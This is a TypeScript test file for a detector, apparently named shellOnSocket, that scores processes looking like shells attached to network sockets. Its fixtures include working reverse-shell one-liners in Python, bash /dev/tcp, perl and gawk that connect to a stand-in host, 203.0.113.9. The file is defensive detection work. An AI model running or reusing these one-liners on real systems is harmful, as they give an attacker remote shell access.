import { expect, test } from 'vitest';
import { connectionOf, doorOf, processOf } from '../../../test/support/subjects.ts';
import { shellOnSocket } from './shell-on-socket.ts';

const bash = { path: '/usr/bin/bash' };
const python = { path: '/usr/bin/python3.11' };
const CONNECT_BACK = 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",443));pty.spawn("/bin/sh")';

test.each([
  [bash, ['bash', '-i'], 30],
  [bash, ['bash', '-c', 'exec 3<>/dev/tcp/203.0.113.9/80'], 30],
  [bash, ['bash', '-euo', 'pipefail', '/usr/local/bin/check.sh'], 15],
  [{ path: '/usr/bin/busybox' }, ['sh'], 30],
  [python, ['python3', '-c', CONNECT_BACK], 40],
  [python, ['python3', '-uc', 'print(1)'], 12],
  [{ path: '/usr/bin/perl' }, ['perl', '-MIO', '-e', 'use Socket; exec "/bin/sh"'], 40],
  [{ path: '/usr/bin/gawk' }, ['awk', 'BEGIN{s="/inet/tcp/0/203.0.113.9/443"; "sh" |& s}'], 40],
])('%o with %j weighs %i', (program, args, weight) => {
  expect(shellOnSocket.look(connectionOf([processOf({ ...program, arguments: args })]))?.weight).toBe(weight);
});

test.each([
  [python, ['python3', '-W', 'ignore', '/srv/app.py']],
  [python, ['python3', '-m', 'http.server']],
  [python, ['python3', '-c', 'from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)']],
  [{ path: '/usr/bin/node' }, ['node', '--require', 'x.js', 'server.js']],
  [{ path: '/usr/bin/java' }, ['java', '-cp', 'a.jar', 'Main', '-e', 'x']],
  [{ path: '/usr/sbin/sshd' }, ['sshd: li@pts/0']],
])('%o with %j is ordinary', (program, args) => {
  const process = processOf({ ...program, arguments: args });
  expect(shellOnSocket.look(connectionOf([process]))).toBeNull();
  expect(shellOnSocket.concerns(process)).toBe(false);
});

test('a listening shell counts, less where only this machine reaches it', () => {
  const shell = processOf({ ...bash, arguments: ['-bash'] });
  expect(shellOnSocket.look(doorOf([shell]))?.weight).toBe(30);
  expect(shellOnSocket.look(doorOf([shell], { reach: 'host' }))?.weight).toBe(15);
  expect(shellOnSocket.look(connectionOf([shell], { reach: 'host' }))).toBeNull();
});

test('a shell that got the socket from its parent is a hint', () => {
  const server = processOf({ pid: 10 });
  const child = processOf({ ...bash, pid: 11, arguments: ['sh', '-c', 'date'], parents: [{ pid: 10, name: 'sshd' }] });
  expect(shellOnSocket.look(doorOf([server, child]))?.weight).toBe(5);
});

test('a shell whose input and output are the socket is another signal’s', () => {
  const streams = { stdin: 7001, stdout: 7001, stderr: 7001 };
  expect(shellOnSocket.look(connectionOf([processOf({ ...bash, arguments: ['sh'], streams })]))).toBeNull();
});

test('one that only reads from it is this one’s', () => {
  const streams = { stdin: 7001, stdout: 9, stderr: 9 };
  expect(shellOnSocket.look(connectionOf([processOf({ ...bash, arguments: ['bash'], streams })]))?.weight).toBe(30);
});

test('the check of a socket elsewhere enters its namespace', () => {
  const shell = processOf({ ...bash, arguments: ['bash'] });
  const subject = doorOf([shell]);
  const elsewhere = subject.network === null ? null : { ...subject.network, own: false };
  expect(shellOnSocket.look({ ...subject, network: elsewhere })?.evidence[1]?.check).toEqual([
    'nsenter',
    '-t',
    '812',
    '-n',
    'ss',
    '-tlnp',
    'sport',
    '=',
    ':4444',
  ]);
});

test.each([
  ['cmd.exe', 30],
  ['powershell.exe', 15],
  ['bash', 15],
  ['nginx.exe', 0],
])('of a listing that names %s only, the name weighs %i', (name, weight) => {
  const process = { pid: 9, name, kernelThread: false };
  expect(shellOnSocket.look(connectionOf([process], { system: 'windows' }))?.weight ?? 0).toBe(weight);
});

test.each([
  ['windows', ['netstat', '-abno', '-p', 'tcp']],
  ['macos', ['sudo', 'lsof', '-nP', '-iTCP@203.0.113.9:443']],
  ['bsd', ['sudo', 'sockstat', '-46', '-P', 'tcp']],
] as const)('the command is one of the machine that the listing comes from: %s', (system, check) => {
  const shell = { pid: 9, name: system === 'windows' ? 'cmd.exe' : 'bash', kernelThread: false };
  const finding = shellOnSocket.look(connectionOf([shell], { system }));
  expect(finding?.evidence.at(-1)?.check).toEqual(check);
});
